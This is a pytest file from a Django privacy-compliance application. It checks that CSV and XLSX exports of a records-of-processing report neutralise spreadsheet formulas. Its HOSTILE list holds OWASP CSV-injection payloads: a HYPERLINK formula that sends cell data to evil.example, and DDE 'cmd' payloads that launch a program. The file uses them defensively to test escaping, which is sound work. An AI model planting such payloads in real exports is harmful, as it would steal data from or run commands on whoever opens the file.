"""Exports cannot attack whoever opens them: formula cells neutralised, XLSX text as text, CSV with a BOM."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from shipex_privacy.audit.services import record_save
from shipex_privacy.catalogue.models import PersonalDataField, System
from shipex_privacy.core import exports
from tests.disclosures.factories import RecipientFactory
from tests.disclosures.test_workflow import second_officer, sent  # noqa: F401 (fixture)
from tests.subjects.factories import DataSubjectFactory

# OWASP's CSV injection: what a spreadsheet runs when a cell starts with = + - @, tab or CR.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(value):
    assert exports.safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Toshkent", "100891", "ali@mail.uz", "1.3.2.5 Reklama", "", "a=b", "UZ-KZ"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert exports.safe_cell(value) == value


def test_the_streaming_api_neutralises_every_row_it_writes():
    buffer = io.StringIO()
    writer = exports.csv_writer(buffer)
    writer.writerow(["=1+1", 5, None])
    writer.writerows([["@x", "ok"]])
    assert exports.CSV_BOM == "\ufeff"
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "5", ""], ["'@x", "ok"]]
    assert exports.safe_row(["+a", "b"]) == ["'+a", "b"]


def cells_of(xlsx: bytes):
    """Every cell of every sheet (the RoPA has two: activities and field level)."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile_catalogue(compliance_officer, second_officer):  # noqa: F811
    """Hostile text in every free-text column the records of processing show."""
    system = System.objects.get(code="crm")
    system.name = HOSTILE[0]
    record_save(instance=system, actor=compliance_officer, reason="Test: hostile system name")
    for entry, value in zip(PersonalDataField.objects.exclude(purposes=None).order_by("code"), HOSTILE, strict=False):
        entry.name_uz = entry.name_ru = entry.name_en = value
        record_save(instance=entry, actor=compliance_officer, reason="Test: hostile field name")
    recipient = RecipientFactory(kind="state_authority", legal_name=HOSTILE[1], country="UZ")
    sent(compliance_officer, second_officer, [DataSubjectFactory()], recipient=recipient)
    return HOSTILE


@pytest.mark.django_db
def test_ropa_csv_starts_with_a_bom_and_keeps_no_formula(client, auditor, hostile_catalogue):
    client.force_login(auditor)
    response = client.get(reverse("admin:disclosures_disclosure_ropa"), {"format": "csv"})
    assert response.content.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    for value in hostile_catalogue:
        assert any(value in cell for cell in cells), value  # the rows are really there
    assert not [cell for cell in cells if cell.startswith(exports.FORMULA_STARTS)]


@pytest.mark.django_db
def test_ropa_xlsx_holds_text_cells_only(client, auditor, hostile_catalogue):
    client.force_login(auditor)
    response = client.get(reverse("admin:disclosures_disclosure_ropa"), {"format": "xlsx"})
    cells = cells_of(response.content)
    assert f"'{hostile_catalogue[0]}" in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str)
                and cell.value.startswith(exports.FORMULA_STARTS)]
